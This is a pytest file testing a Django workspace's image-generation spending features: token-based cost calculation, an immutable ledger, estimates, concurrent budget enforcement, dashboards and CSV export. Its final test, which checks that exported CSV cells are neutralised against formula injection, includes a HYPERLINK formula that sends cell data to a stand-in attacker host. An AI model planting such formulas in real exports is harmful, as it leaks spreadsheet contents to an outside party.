"""Money: exact costs from usage, the ledger, estimates, budgets under concurrency, the dashboard."""

import csv
import io
import threading
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import IntegrityError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from tests.conftest import GENERATION_POST, job_params
from tests.factories import MembershipFactory, ProjectFactory, UserFactory
from tests.helpers import create_job, run
from workspace import jobs, projects, spend, worker
from workspace.models import ApiCall, Budget, Job, LedgerEntry, Price, Role

pytestmark = pytest.mark.django_db

# Usage as the API reports it, for four kinds of call.
TEXT_ONLY_HIGH_SQUARE = {
    "input_tokens": 50,
    "input_tokens_details": {"text_tokens": 50, "image_tokens": 0},
    "output_tokens": 7024,
    "output_tokens_details": {"image_tokens": 7024, "text_tokens": 0},
    "total_tokens": 7074,
}
EDIT_WITH_THREE_INPUTS = {
    "input_tokens": 3940,
    "input_tokens_details": {"text_tokens": 40, "image_tokens": 3900},
    "output_tokens": 1756,
    "total_tokens": 5696,
}
FOUR_LOW_IMAGES = {
    "input_tokens": 20,
    "input_tokens_details": {"text_tokens": 20, "image_tokens": 0},
    "output_tokens": 800,
    "output_tokens_details": {"image_tokens": 800, "text_tokens": 0},
    "total_tokens": 820,
}
CUSTOM_SIZE_WITH_CACHE = {
    "input_tokens": 30,
    "input_tokens_details": {"text_tokens": 30, "image_tokens": 0, "cached_tokens": 10},
    "output_tokens": 5000,
    "total_tokens": 5030,
}


# Worked by hand from the seeded rates ($ per million tokens):
#   gpt-image-2   text 5, cached text 1.25, image in 8, image out 30
#   gpt-image-1.5 text 5, cached text 1.25, image in 8, image out 32
#   1-mini        text 2, cached text 0.20, image in 2.50, image out 8
@pytest.mark.parametrize(
    ("model", "usage", "expected"),
    [
        ("gpt-image-2", TEXT_ONLY_HIGH_SQUARE, "0.210970"),  # 50*5 + 7024*30 = 210,970 µ$
        ("gpt-image-2", EDIT_WITH_THREE_INPUTS, "0.084080"),  # 40*5 + 3900*8 + 1756*30
        ("gpt-image-2", FOUR_LOW_IMAGES, "0.024100"),  # 20*5 + 800*30
        ("gpt-image-2", CUSTOM_SIZE_WITH_CACHE, "0.150113"),  # 20*5 + 10*1.25 + 5000*30 = 150,112.5, half up
        ("gpt-image-1.5", TEXT_ONLY_HIGH_SQUARE, "0.225018"),  # 50*5 + 7024*32
        ("gpt-image-1.5", EDIT_WITH_THREE_INPUTS, "0.087592"),  # 40*5 + 3900*8 + 1756*32
        ("gpt-image-1.5", FOUR_LOW_IMAGES, "0.025700"),
        ("gpt-image-1.5", CUSTOM_SIZE_WITH_CACHE, "0.160113"),
        ("gpt-image-1-mini", TEXT_ONLY_HIGH_SQUARE, "0.056292"),  # 50*2 + 7024*8
        ("gpt-image-1-mini", EDIT_WITH_THREE_INPUTS, "0.023878"),  # 40*2 + 3900*2.5 + 1756*8
        ("gpt-image-1-mini", FOUR_LOW_IMAGES, "0.006440"),
        ("gpt-image-1-mini", CUSTOM_SIZE_WITH_CACHE, "0.040042"),  # 20*2 + 10*0.2 + 5000*8
        # gpt-image-2.5 is published at gpt-image-2's rates (0009_spend_controls).
        ("gpt-image-2.5-sunburst", TEXT_ONLY_HIGH_SQUARE, "0.210970"),
        ("gpt-image-2.5-sunburst", CUSTOM_SIZE_WITH_CACHE, "0.150113"),
        ("gpt-image-2.5-flare", EDIT_WITH_THREE_INPUTS, "0.084080"),
        ("gpt-image-2.5-flare", FOUR_LOW_IMAGES, "0.024100"),
    ],
)
def test_the_cost_of_a_call_matches_the_hand_computed_figure(model, usage, expected):
    cost = spend.cost(spend.Tokens.from_usage(usage), spend.price_for(model))
    assert cost == Decimal(expected)
    assert isinstance(cost, Decimal)


def test_a_snapshot_is_priced_as_its_model_and_every_offered_model_has_a_price():
    assert spend.price_for("gpt-image-2-2026-04-21").model == "gpt-image-2"
    assert spend.unpriced_models() == set()
    for model in ("gpt-image-2.5-sunburst", "gpt-image-2.5-flare"):
        price = spend.price_for(model)
        assert price.effective_from.isoformat() == "2026-09-08"
        assert price.rates() == spend.price_for("gpt-image-2").rates()
    # Before the announcement there was no price.
    assert spend.price_for("gpt-image-2.5-flare", timezone.datetime(2026, 9, 7).date()) is None


def test_the_price_in_force_on_the_day_is_used():
    Price.objects.create(
        model="gpt-image-2",
        effective_from=timezone.localdate() + timedelta(days=30),
        text_input=1,
        cached_text_input=1,
        image_input=1,
        cached_image_input=1,
        image_output=1,
        text_output=1,
    )
    assert spend.price_for("gpt-image-2").image_output == Decimal(30)
    assert spend.price_for("gpt-image-2", timezone.localdate() + timedelta(days=31)).image_output == Decimal(
        1
    )


def test_a_job_writes_one_charge_per_call_from_its_usage(project, cast, standin):
    job = run(create_job(project=project, author=cast.bob, quality="high", n=2))
    call = job.api_calls.get()
    entry = LedgerEntry.objects.get(job=job)
    assert entry.api_call == call
    assert (entry.user, entry.project, entry.model, entry.request_id) == (
        cast.bob,
        project,
        "gpt-image-2",
        call.request_id,
    )
    assert entry.image_output_tokens == call.output_image_tokens
    assert entry.text_input_tokens == call.input_text_tokens
    assert entry.image_count == 2
    assert entry.rates["image_output"] == "30.000000"
    expected = spend.cost(spend.Tokens.from_usage(call.usage), spend.price_for("gpt-image-2"))
    assert entry.cost == expected > 0

    # Charging the same call again changes nothing, and the database refuses a second row outright.
    spend.charge(api_call=call, job=job)
    assert LedgerEntry.objects.filter(job=job).count() == 1
    with pytest.raises(IntegrityError), transaction.atomic():
        LedgerEntry.objects.create(api_call=call, user=cast.bob, project=project, job=job, model="x", cost=1)


def test_a_retried_call_that_failed_before_usage_costs_nothing_and_says_so(client, project, cast, standin):
    standin.inject("500")
    job = run(create_job(project=project, author=cast.bob))
    Job.objects.filter(pk=job.pk).update(next_attempt_at=timezone.now())
    job = run(job)
    assert job.status == Job.Status.SUCCEEDED
    failed, succeeded = job.api_calls.order_by("attempt")
    assert not LedgerEntry.objects.filter(api_call=failed).exists()
    assert LedgerEntry.objects.filter(api_call=succeeded).count() == 1
    client.force_login(cast.bob)
    page = client.get(reverse("job_detail", args=[project.pk, job.pk])).content.decode()
    assert "nothing charged" in page
    assert f"${succeeded.charges.get().cost.quantize(Decimal('0.001'))}" in page


def test_a_max_quality_sunburst_job_is_charged_real_money(project, cast, standin, client):
    job = run(create_job(project=project, author=cast.bob, model="gpt-image-2.5-sunburst", quality="max"))
    entry = LedgerEntry.objects.get(job=job)
    assert entry.priced is True
    assert entry.cost == spend.cost(spend.Tokens.from_usage(entry.api_call.usage), spend.price_for(job.model))
    assert entry.cost > 0
    client.force_login(cast.bob)
    assert f"${entry.cost.quantize(Decimal('0.001'))}" in client.get(reverse("my_spend")).content.decode()


def test_a_model_without_a_price_cannot_be_chosen(client, cast, project, generation_post):
    Price.objects.filter(model="gpt-image-2.5-flare").delete()
    client.force_login(cast.bob)
    page = client.get(reverse("project", args=[project.pk])).content.decode()
    assert (
        '<option value="gpt-image-2.5-flare" disabled>GPT Image 2.5 Flare (no price set: ask an admin)'
        in page
    )
    assert '<option value="gpt-image-2.5-sunburst">' in page
    response = client.post(
        reverse("job_create", args=[project.pk]),
        generation_post | {"model": "gpt-image-2.5-flare"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 400
    assert "GPT Image 2.5 Flare has no price set" in response.content.decode()
    assert "ask an admin to add its price" in response.content.decode()
    assert Job.objects.count() == 0
    client.force_login(cast.sam)
    assert (
        "No price set</strong> for gpt-image-2.5-flare"
        in client.get(reverse("spend_dashboard")).content.decode()
    )


@pytest.mark.parametrize("what_is_left", ["a later price of its own", "only the default model's price"])
def test_a_call_that_settles_without_a_price_is_charged_at_the_nearest_known_price_never_0(
    project, cast, standin, what_is_left
):
    """The job was queued while priced; the price went away before the call was charged."""
    job = create_job(project=project, author=cast.bob, model="gpt-image-2.5-sunburst", quality="high")
    later = timezone.localdate() + timedelta(days=40)
    if what_is_left == "a later price of its own":
        Price.objects.filter(model="gpt-image-2.5-sunburst").update(effective_from=later, image_output=50)
        expected_rate = Decimal(50)
    else:
        Price.objects.filter(model="gpt-image-2.5-sunburst").delete()
        expected_rate = Decimal(30)  # gpt-image-2's
    job = run(job)
    assert job.status == Job.Status.SUCCEEDED
    entry = LedgerEntry.objects.get(job=job)
    assert entry.priced is False  # flagged for the dashboard and the ledger
    assert Decimal(entry.rates["image_output"]) == expected_rate
    assert entry.cost == spend.money(
        (entry.text_input_tokens * Decimal(5) + entry.image_output_tokens * expected_rate) / spend.MILLION
    )
    assert entry.cost > 0


# --- Estimates -------------------------------------------------------------------------------------------


def test_the_estimate_follows_quality_size_count_and_model():
    def cost(**changes):
        params = {"model": "gpt-image-2", "quality": "high", "size": "1024x1024", "n": 1} | changes
        return spend.estimate(**params, prompt="a lemon").cost

    assert cost() == Decimal("0.210730")  # 2 text tokens*5 + 7024*30, as OpenAI's $0.211 example
    assert cost(quality="low") < cost(quality="medium") < cost()
    assert cost(quality="auto") == cost()  # auto is budgeted as the worst case
    assert cost(n=4) > 3 * cost()
    assert cost(size="2048x1152") > cost(size="1536x1024")
    assert cost(model="gpt-image-1-mini") < cost()
    assert spend.estimate(model="gpt-image-2.5-flare", quality="high", size="1024x1024", n=1).priced
    Price.objects.filter(model="gpt-image-2.5-flare").delete()
    unpriced = spend.estimate(model="gpt-image-2.5-flare", quality="high", size="1024x1024", n=1)
    assert unpriced.cost == Decimal("0.210725")  # at gpt-image-2 rates: 1 text token*5 + 7024*30
    assert "No price is set for gpt-image-2.5-flare" in unpriced.note


def test_the_estimate_endpoint_answers_the_form_as_it_stands(client, cast, project):
    client.force_login(cast.bob)
    url = reverse("estimate", args=[project.pk])
    low = client.get(url, GENERATION_POST | {"quality": "low"}).content.decode()
    high = client.get(url, GENERATION_POST | {"quality": "high"}).content.decode()
    assert "Estimated cost <strong>$0.006</strong>" in low
    assert "Estimated cost <strong>$0.211</strong>" in high
    invalid = client.get(url, GENERATION_POST | {"n": "99"}).content.decode()
    assert "No estimate yet: Ensure this value is less than or equal to 10." in invalid
    no_prompt = client.get(url, GENERATION_POST | {"prompt": "", "quality": "high"}).content.decode()
    assert "Estimated cost <strong>$0.211</strong>" in no_prompt
    client.force_login(cast.charlie)
    assert client.get(url, GENERATION_POST).status_code == 404


# --- Budgets ---------------------------------------------------------------------------------------------


def test_a_job_over_budget_is_refused_with_what_is_left(client, cast, project, generation_post):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal("0.10"))
    client.force_login(cast.bob)
    response = client.post(
        reverse("job_create", args=[project.pk]),
        generation_post | {"quality": "high"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 402
    assert "This job would cost about $0.21, but only $0.10 is left of your $0.10 budget this month." in (
        response.content.decode()
    )
    assert Job.objects.count() == 0


def test_a_project_budget_applies_to_everyone_in_it(cast, project):
    Budget.objects.create(project=project, monthly_limit=Decimal("0.30"))
    jobs.job_create(project=project, author=cast.bob, prompt="a", params=job_params(quality="high"))
    with pytest.raises(spend.BudgetExceeded, match=r"the project's \$0\.30 budget"):
        jobs.job_create(project=project, author=cast.alice, prompt="b", params=job_params(quality="high"))


def test_the_reservation_settles_to_the_actual_cost_on_success(cast, project, standin):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal(5))
    job = jobs.job_create(
        project=project, author=cast.bob, prompt="a lemon", params=job_params(quality="high")
    )
    assert job.reserved_cost == job.estimated_cost > 0
    assert spend.used(user=cast.bob) == job.estimated_cost
    job = run(job)
    actual = LedgerEntry.objects.get(job=job).cost
    assert job.reserved_cost == 0
    assert spend.used(user=cast.bob) == actual
    assert spend.summary_for(cast.bob).spent == actual


@pytest.mark.parametrize("ending", ["failure", "cancel"])
def test_the_reservation_is_released_when_a_job_fails_or_is_canceled(cast, project, standin, ending):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal(5))
    job = jobs.job_create(project=project, author=cast.bob, prompt="a lemon", params=job_params())
    if ending == "failure":
        standin.inject("moderation")
        job = run(job)
        assert job.status == Job.Status.FAILED
    else:
        assert jobs.job_cancel(job=job)
        job.refresh_from_db()
    assert job.reserved_cost == 0
    assert spend.used(user=cast.bob) == 0
    # Retrying holds the estimate back again.
    jobs.job_retry(job=job, actor=cast.bob)
    job.refresh_from_db()
    assert job.reserved_cost == job.estimated_cost == spend.used(user=cast.bob)


def test_the_sweep_releases_a_job_it_gives_up_on(cast, project):
    job = jobs.job_create(project=project, author=cast.bob, prompt="a", params=job_params())
    Job.objects.filter(pk=job.pk).update(
        status="running", attempts=5, lease_expires_at=timezone.now() - timedelta(seconds=1)
    )
    worker.jobs_sweep()
    job.refresh_from_db()
    assert (job.status, job.reserved_cost) == ("failed", 0)


@pytest.mark.django_db(transaction=True)
def test_fifty_simultaneous_submits_against_a_budget_for_ten_accept_ten(monkeypatch, seeded_prices):
    monkeypatch.setattr(jobs, "_enqueue", lambda job_id, countdown=None: None)
    user = UserFactory(username="rush")
    project = ProjectFactory(name="Rush", created_by=user)
    params = job_params(quality="high")
    each = jobs.job_estimate(prompt="a lemon", params=params).cost
    assert each == Decimal("0.210730")
    Budget.objects.create(
        user=user, monthly_limit=(each * 10 + each / 2).quantize(Decimal("0.01"), rounding="ROUND_DOWN")
    )

    start = threading.Barrier(50)
    outcomes: list[str] = []
    lock = threading.Lock()

    def submit() -> None:
        try:
            start.wait()
            jobs.job_create(project=project, author=user, prompt="a lemon", params=params)
            result = "accepted"
        except spend.BudgetExceeded:
            result = "refused"
        except Exception as error:  # reported by the assertion below, not lost in a thread
            result = f"error: {error!r}"
        finally:
            connection.close()
        with lock:
            outcomes.append(result)

    threads = [threading.Thread(target=submit) for _ in range(50)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert len(outcomes) == 50
    assert not [outcome for outcome in outcomes if outcome.startswith("error")], outcomes
    assert outcomes.count("accepted") == 10
    assert Job.objects.filter(author=user).count() == 10
    assert spend.used(user=user) <= Budget.objects.get(user=user).monthly_limit


# --- What people see -----------------------------------------------------------------------------------


def test_the_badge_shows_my_month_and_warns_from_80_percent(client, cast, project, standin):
    client.force_login(cast.bob)
    run(create_job(project=project, author=cast.bob, quality="high"))
    spent = spend.summary_for(cast.bob).spent
    assert 'hx-get="/spend/badge"' in client.get(reverse("home")).content.decode()
    page = client.get(reverse("spend_badge")).content.decode()
    assert 'id="spend-badge"' in page
    assert f"${spent.quantize(Decimal('0.001'))}" in page
    assert "warn" not in page.split('id="spend-badge"')[1].split(">")[0]
    Budget.objects.create(user=cast.bob, monthly_limit=(spent / Decimal("0.85")).quantize(Decimal("0.01")))
    page = client.get(reverse("spend_badge")).content.decode()
    assert 'class="spend-badge warn"' in page
    assert "over 80 % of the budget" in page


def test_the_finished_card_moves_the_badge(client, cast, project, standin):
    job = run(create_job(project=project, author=cast.bob))
    client.force_login(cast.bob)
    response = client.get(reverse("job_card", args=[project.pk, job.pk]), HTTP_HX_REQUEST="true")
    assert response["HX-Trigger"] == '{"spend-changed": {}}'  # the badge listens and refetches itself
    badge = client.get(reverse("home")).content.decode()
    assert 'hx-trigger="load, spend-changed from:body"' in badge


def test_the_job_page_shows_actual_against_estimate(client, cast, project, standin):
    job = jobs.job_create(
        project=project, author=cast.bob, prompt="a lemon", params=job_params(quality="high")
    )
    job = run(job)
    client.force_login(cast.bob)
    html = client.get(reverse("job_detail", args=[project.pk, job.pk])).content.decode()
    assert "Estimated cost</dt><dd>$0.211" in html
    actual = LedgerEntry.objects.get(job=job).cost.quantize(Decimal("0.001"))
    assert f"Actual cost</dt><dd>${actual}" in html


# --- The dashboard ------------------------------------------------------------------------------------


@pytest.fixture
def spending(cast, project, other_project, standin):
    MembershipFactory(project=other_project, user=cast.bob, role=Role.EDITOR)
    run(create_job(project=project, author=cast.bob, quality="high", n=2))
    run(create_job(project=project, author=cast.alice, quality="low"))
    run(create_job(project=other_project, author=cast.bob, model="gpt-image-1.5", quality="medium"))
    run(create_job(project=other_project, author=cast.charlie, model="gpt-image-1-mini", quality="low", n=3))
    return LedgerEntry.objects.all()


def test_dashboard_and_csv_totals_equal_the_ledgers_sums(client, cast, spending):
    client.force_login(cast.sam)
    response = client.get(reverse("spend_dashboard"))
    assert response.status_code == 200
    report = response.context["report"]
    total = sum(entry.cost for entry in spending)
    assert report.totals["cost"] == total
    assert report.totals["images"] == 2 + 1 + 1 + 3
    assert report.totals["calls"] == 4
    assert sum(row["cost"] for row in report.by_user) == total
    assert sum(row["cost"] for row in report.by_project) == total
    assert sum(row["cost"] for row in report.by_model) == total
    assert sum(day["cost"] for day in report.daily) == total
    bob = next(row for row in report.by_user if row["user__username"] == "bob")
    assert bob["cost"] == sum(entry.cost for entry in spending if entry.user == cast.bob)
    assert report.by_user[0]["cost"] >= report.by_user[-1]["cost"]  # top spenders first

    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode())))
    assert rows[0] == ["section", "name", "cost_usd", "images", "calls", "tokens", "simulated_cost_usd"]
    by_section: dict[str, Decimal] = {}
    for section, _name, cost, *_ in rows[1:]:
        by_section[section] = by_section.get(section, Decimal(0)) + Decimal(cost)
    assert by_section == {"user": total, "project": total, "model": total, "day": total, "total": total}


def test_an_empty_month_gives_an_empty_but_valid_csv(client, cast):
    client.force_login(cast.sam)
    response = client.get(reverse("spend_csv"), {"period": "last_month"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "section"
    assert rows[-1] == ["total", "", "0", "0", "0", "0", "0"]
    assert all(row[0] == "day" and row[2] == "0" for row in rows[1:-1])


def test_a_date_range_the_wrong_way_round_is_explained(client, cast):
    client.force_login(cast.sam)
    params = {"period": "custom", "start": "2026-11-10", "end": "2026-11-01"}
    response = client.get(reverse("spend_dashboard"), params)
    assert response.status_code == 400
    assert "The end date is before the start date." in response.content.decode()
    assert client.get(reverse("spend_csv"), params).status_code == 400
    assert client.get(reverse("spend_dashboard"), {"period": "custom", "start": "soon"}).status_code == 400


def test_only_staff_see_everyones_spend(client, cast, spending):
    client.force_login(cast.bob)
    assert client.get(reverse("spend_dashboard")).status_code == 404
    assert client.get(reverse("spend_csv")).status_code == 404
    mine = client.get(reverse("my_spend")).content.decode()
    assert "Spring campaign" in mine
    assert "charlie" not in mine
    assert ApiCall.objects.count() == 4


# --- Admin input --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("-5", "A budget cannot be negative."),
        ("5000000", "more than $1,000,000 a month"),
        ("lots", "Enter a number."),
    ],
)
def test_an_admin_cannot_set_a_bad_budget(admin_client, cast, value, message):
    response = admin_client.post(
        reverse("admin:workspace_budget_add"), {"user": cast.bob.pk, "monthly_limit": value}
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Budget.objects.count() == 0


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("30.1234567", "no more than 6 decimal places"),
        ("thirty", "Enter a number."),
        ("-1", "cannot be negative"),
    ],
)
def test_an_admin_cannot_set_a_bad_price(admin_client, value, message):
    data = {
        "model": "gpt-image-2.5-sunburst",
        "effective_from": timezone.localdate().isoformat(),  # a change of price from today
        "text_input": "5",
        "cached_text_input": "1.25",
        "image_input": "8",
        "cached_image_input": "2",
        "image_output": value,
        "text_output": "10",
        "batch_factor": "0.5",  # the form's initial value
    }
    response = admin_client.post(reverse("admin:workspace_price_add"), data)
    assert message in response.content.decode()
    assert Price.objects.filter(model="gpt-image-2.5-sunburst").count() == 1  # only the seeded one
    response = admin_client.post(reverse("admin:workspace_price_add"), data | {"image_output": "40"})
    assert response.status_code == 302
    assert spend.price_for("gpt-image-2.5-sunburst").image_output == Decimal(40)


def test_the_ledger_cannot_be_edited_in_the_admin(admin_client, spending):
    entry = spending.first()
    assert admin_client.get(reverse("admin:workspace_ledgerentry_changelist")).status_code == 200
    assert (
        admin_client.post(
            reverse("admin:workspace_ledgerentry_change", args=[entry.pk]), {"cost": "0"}
        ).status_code
        == 403
    )
    assert admin_client.get(reverse("admin:workspace_ledgerentry_add")).status_code == 403


def test_the_edit_form_estimate_counts_its_input_images(client, cast, project):
    client.force_login(cast.bob)
    url = reverse("estimate", args=[project.pk])
    base = {"kind": "edit", "model": "gpt-image-2", "size": "auto", "quality": "low", "output_format": "png"}
    base |= {"background": "auto", "n": "1"}
    one = client.get(url, base | {"inputs": ["ref:1"]}).content.decode()
    three = client.get(url, base | {"inputs": ["ref:1", "ref:2", "ref:3"]}).content.decode()
    # low quality at 1536x1024 (auto is budgeted as the largest standard size): 167 tokens*30, plus
    # 1,300 image tokens an input at $8/M.
    assert "Estimated cost <strong>$0.015</strong>" in one  # 1 text*5 + 1300*8 + 167*30 = 15,415 µ$
    assert "Estimated cost <strong>$0.036</strong>" in three  # 1 text*5 + 3900*8 + 167*30 = 36,215 µ$


# --- Budgets in the product -----------------------------------------------------------------------------


def test_staff_set_change_and_remove_budgets_on_the_dashboard(client, cast, project):
    client.force_login(cast.sam)
    url = reverse("spend_budget_set")
    response = client.post(url, {"scope": "user", "monthly_limit": "20"})
    assert response.status_code == 400
    page = response.content.decode()
    assert 'id="id_user_error"><p class="error">Choose a person or a project.</p>' in page
    assert "Constraint" not in page
    for bad, message in [("-1", "A budget cannot be negative."), ("1.234", "at most 2 decimal places")]:
        response = client.post(url, {"scope": "user", "user": cast.bob.pk, "monthly_limit": bad})
        assert response.status_code == 400 and message in response.content.decode()
    assert Budget.objects.count() == 0

    assert client.post(url, {"scope": "user", "user": cast.bob.pk, "monthly_limit": "20"}).status_code == 302
    assert (
        client.post(url, {"scope": "user", "user": cast.bob.pk, "monthly_limit": "0.56"}).status_code == 302
    )
    assert Budget.objects.get(user=cast.bob).monthly_limit == Decimal("0.56")  # changed, not a second row
    # A person picked earlier in the other menu does not count once "project" is chosen.
    client.post(url, {"scope": "project", "user": cast.bob.pk, "project": project.pk, "monthly_limit": "50"})
    assert Budget.objects.get(project=project).monthly_limit == 50
    client.post(url, {"scope": "workspace", "monthly_limit": "1000"})
    assert Budget.objects.get(user=None, project=None).monthly_limit == 1000
    page = client.get(reverse("spend_dashboard")).content.decode()
    assert "The whole workspace" in page and "$1,000.00" in page and "$0.56" in page
    client.post(url, {"scope": "project", "project": project.pk, "monthly_limit": ""})
    assert not Budget.objects.filter(project=project).exists()


def test_the_admin_budget_form_gives_field_errors_not_the_constraint(admin_client, cast, project):
    url = reverse("admin:workspace_budget_add")
    page = admin_client.post(url, {"scope": "user", "monthly_limit": "5"}).content.decode()
    assert "Choose a person or a project." in page and "Constraint" not in page
    both = {"scope": "user", "user": cast.bob.pk, "project": project.pk, "monthly_limit": "5"}
    page = admin_client.post(url, both).content.decode()
    assert "Choose a person or a project, not both" in page and "Constraint" not in page
    assert Budget.objects.count() == 0
    assert admin_client.post(url, {"scope": "workspace", "monthly_limit": "9"}).status_code == 302
    page = admin_client.post(url, {"scope": "workspace", "monthly_limit": "9"}).content.decode()
    assert "There is already a workspace budget" in page
    assert Budget.objects.count() == 1


def test_the_workspace_budget_holds_across_people_and_projects(cast, project, other_project):
    Budget.objects.create(monthly_limit=Decimal("0.30"))  # neither user nor project: everyone
    jobs.job_create(project=project, author=cast.bob, prompt="a", params=job_params(quality="high"))
    with pytest.raises(spend.BudgetExceeded, match=r"the workspace's \$0\.30 budget"):
        jobs.job_create(
            project=other_project, author=cast.charlie, prompt="b", params=job_params(quality="high")
        )


@pytest.mark.django_db(transaction=True)
def test_forty_simultaneous_submits_by_many_people_against_a_workspace_cap_for_eight(
    monkeypatch, seeded_prices
):
    monkeypatch.setattr(jobs, "_enqueue", lambda job_id, countdown=None: None)
    people = [UserFactory(username=f"rush{i}") for i in range(8)]
    places = [ProjectFactory(name=f"Rush {i}", created_by=people[i]) for i in range(4)]
    params = job_params(quality="high")
    each = jobs.job_estimate(prompt="a lemon", params=params).cost
    Budget.objects.create(
        monthly_limit=(each * 8 + each / 2).quantize(Decimal("0.01"), rounding="ROUND_DOWN")
    )

    start = threading.Barrier(40)
    outcomes: list[str] = []
    lock = threading.Lock()

    def submit(i: int) -> None:
        try:
            start.wait()
            jobs.job_create(project=places[i % 4], author=people[i % 8], prompt="a lemon", params=params)
            result = "accepted"
        except spend.BudgetExceeded:
            result = "refused"
        except Exception as error:  # reported by the assertion below, not lost in a thread
            result = f"error: {error!r}"
        finally:
            connection.close()
        with lock:
            outcomes.append(result)

    threads = [threading.Thread(target=submit, args=(i,)) for i in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert len(outcomes) == 40
    assert not [outcome for outcome in outcomes if outcome.startswith("error")], outcomes
    assert outcomes.count("accepted") == 8
    assert Job.objects.count() == 8
    assert spend.used() <= Budget.objects.get(user=None, project=None).monthly_limit


@pytest.mark.parametrize("default", [Decimal("25.50"), None])
def test_a_new_project_starts_with_the_default_project_budget(cast, settings, default):
    settings.DEFAULT_PROJECT_BUDGET = default
    created = projects.project_create(name="Side door", user=cast.bob)
    if default is None:
        assert not Budget.objects.filter(project=created).exists()
    else:
        assert Budget.objects.get(project=created).monthly_limit == Decimal("25.50")


def test_retry_reserves_and_charges_whoever_clicks(client, cast, project, standin):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal("0.50"))
    standin.inject("moderation")
    job = run(create_job(project=project, author=cast.bob, quality="high"))
    Job.objects.filter(pk=job.pk).update(estimated_cost=Decimal("0.21"))
    assert job.status == Job.Status.FAILED
    client.force_login(cast.alice)
    client.post(reverse("job_retry", args=[project.pk, job.pk]))
    job.refresh_from_db()
    assert (job.status, job.author) == (Job.Status.QUEUED, cast.alice)
    assert spend.used(user=cast.alice) == Decimal("0.21") and spend.used(user=cast.bob) == 0
    job = run(job)
    assert LedgerEntry.objects.get(job=job, image_count__gt=0).user == cast.alice

    # The clicker's own budget is the one that says no.
    Budget.objects.create(user=cast.alice, monthly_limit=Decimal("0.01"))
    standin.inject("moderation")
    failed = run(create_job(project=project, author=cast.bob, quality="high"))
    Job.objects.filter(pk=failed.pk).update(estimated_cost=Decimal("0.21"))
    failed.refresh_from_db()
    with pytest.raises(spend.BudgetExceeded, match="your"):
        jobs.job_retry(job=failed, actor=cast.alice)
    assert jobs.job_retry(job=failed, actor=cast.bob)


def test_reproduce_charges_whoever_clicks(client, cast, project, standin):
    original = run(create_job(project=project, author=cast.bob))
    client.force_login(cast.alice)
    client.post(reverse("job_reproduce", args=[project.pk, original.pk]))
    again = Job.objects.exclude(pk=original.pk).get()
    assert again.author == cast.alice
    run(again)
    assert LedgerEntry.objects.get(job=again).user == cast.alice


def test_the_badge_shows_the_budget_to_the_cent(client, cast):
    Budget.objects.create(user=cast.bob, monthly_limit=Decimal("0.56"))
    client.force_login(cast.bob)
    page = client.get(reverse("spend_badge")).content.decode()
    assert '<span class="of"> of $0.56</span>' in page
    Budget.objects.filter(user=cast.bob).update(monthly_limit=Decimal("1250"))
    assert '<span class="of"> of $1,250.00</span>' in client.get(reverse("spend_badge")).content.decode()


def test_the_image_page_shows_its_calls_cost_beside_the_tokens(client, cast, project, standin):
    job = run(create_job(project=project, author=cast.bob, quality="high"))
    entry = LedgerEntry.objects.get(job=job)
    client.force_login(cast.vera)
    page = client.get(reverse("image_detail", args=[project.pk, job.images.get().pk])).content.decode()
    cost = entry.cost.quantize(Decimal("0.001"))
    expected = f'<dt>Tokens</dt><dd>{entry.api_call.total_tokens} · <span class="cost">${cost}</span>'
    assert expected in page
    assert "simulated" not in page


# --- Demo money -----------------------------------------------------------------------------------------


def test_demo_spend_is_simulated_everywhere_and_kept_apart_from_real(
    client, cast, project, standin, settings
):
    real = LedgerEntry.objects.get(job=run(create_job(project=project, author=cast.bob, quality="high")))
    settings.DEMO_MODE = True
    demo_job = run(create_job(project=project, author=cast.bob, quality="high"))
    demo = LedgerEntry.objects.get(job=demo_job)
    assert (real.simulated, demo.simulated) == (False, True)
    assert demo.cost > 0

    client.force_login(cast.bob)
    badge = client.get(reverse("spend_badge")).content.decode()
    sim_tag = '<span class="sim-tag">sim<span class="sim-rest">ulated</span></span>'
    assert f"${demo.cost.quantize(Decimal('0.001'))} {sim_tag}" in badge
    mine = client.get(reverse("my_spend")).content.decode()
    assert "these charges are simulated" in mine and mine.count('class="sim-tag">simulated') >= 2
    image = demo_job.images.get()
    assert "simulated" in client.get(reverse("image_detail", args=[project.pk, image.pk])).content.decode()

    client.force_login(cast.sam)
    report = client.get(reverse("spend_dashboard")).context["report"]
    assert report.totals["cost"] == real.cost  # real totals leave demo money out
    assert report.totals["simulated_cost"] == demo.cost
    assert report.by_user[0]["cost"] == real.cost and report.by_user[0]["simulated_cost"] == demo.cost
    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode())))
    assert rows[0][-1] == "simulated_cost_usd"
    assert rows[-1][0] == "total" and Decimal(rows[-1][2]) == real.cost and Decimal(rows[-1][-1]) == demo.cost

    # Budgets count the money of the mode the workspace is in: demo play never uses up a real budget.
    assert spend.used(user=cast.bob) == demo.cost
    settings.DEMO_MODE = False
    assert spend.used(user=cast.bob) == real.cost
    assert spend.summary_for(cast.bob).used == real.cost


def test_csv_cells_that_look_like_formulas_arrive_as_text(client, cast, standin):
    """OWASP CSV injection: a name starting with = + - @ tab or CR gets a leading quote."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
    for name in names:
        project = ProjectFactory(name=name, created_by=cast.alice)
        run(create_job(project=project, author=cast.alice, quality="low"))
    ProjectFactory(name="Plain name", created_by=cast.alice)
    client.force_login(cast.sam)
    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode(), newline="")))
    projects = {row[1] for row in rows if row[0] == "project"}
    assert projects == {"'" + name for name in names}
    # Numbers stay numbers.
